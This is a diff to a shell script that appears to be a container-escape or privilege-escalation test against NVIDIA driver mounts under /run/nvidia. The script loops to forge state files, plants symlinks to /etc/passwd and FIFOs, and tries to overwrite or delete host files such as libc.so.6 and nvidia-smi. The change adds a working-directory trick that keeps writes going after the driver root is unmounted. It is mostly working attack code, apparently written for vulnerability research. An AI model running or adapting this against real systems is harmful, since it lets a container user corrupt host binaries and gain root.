@@ -68,7 +68,7 @@ container_attempts() {
     cat <<'END'
 own=/run/nvidia/longshore
 root=/run/nvidia/driver
-try() { (: >"$1") 2>/dev/null && echo "wrote $1"; }
+try() { (: >"$1") 2>/dev/null && echo "wrote $root/$1"; }
 forge() {
     mkdir -p $own
     echo "{\"format\":2,\"boot_id\":\"$1\",\"agent\":1,\"phase\":\"ready\",\"plan\":null,\"entries\":[
@@ -85,19 +85,22 @@ while :; do
     rm -f $own/last-failure.json $own/lock
     busybox ln -s /etc/passwd $own/last-failure.json 2>/dev/null
     busybox mkfifo $own/lock 2>/dev/null
-    if [ -e $root/usr ]; then
+    # A working directory stays in the mounted root; once that is unmounted, its path names the directory below it,
+    # into which everybody with /run/nvidia may write.
+    if cd $root 2>/dev/null && [ -e usr ]; then
         for file in usr/lib/x86_64-linux-gnu/libkmod.so.2 usr/lib/x86_64-linux-gnu/libc.so.6 \
             usr/bin/nvidia-smi lib/firmware/attack usr/attack attack; do
-            try $root/$file
+            try $file
         done
-        rm $root/usr/bin/nvidia-smi 2>/dev/null && echo "removed $root/usr/bin/nvidia-smi"
+        rm usr/bin/nvidia-smi 2>/dev/null && echo "removed $root/usr/bin/nvidia-smi"
         for link in run/nvidia-fabricmanager/fabricmanager.cfg run/fabricmanager.cfg; do
-            busybox ln -s /etc/passwd $root/$link 2>/dev/null
+            busybox ln -s /etc/passwd $link 2>/dev/null
         done
         [ -s $own/state.json ] && echo "round exposed"
     elif [ -s $own/state.json ]; then
         echo "round early"
     fi
+    cd /
     busybox sleep 1
 done
 END
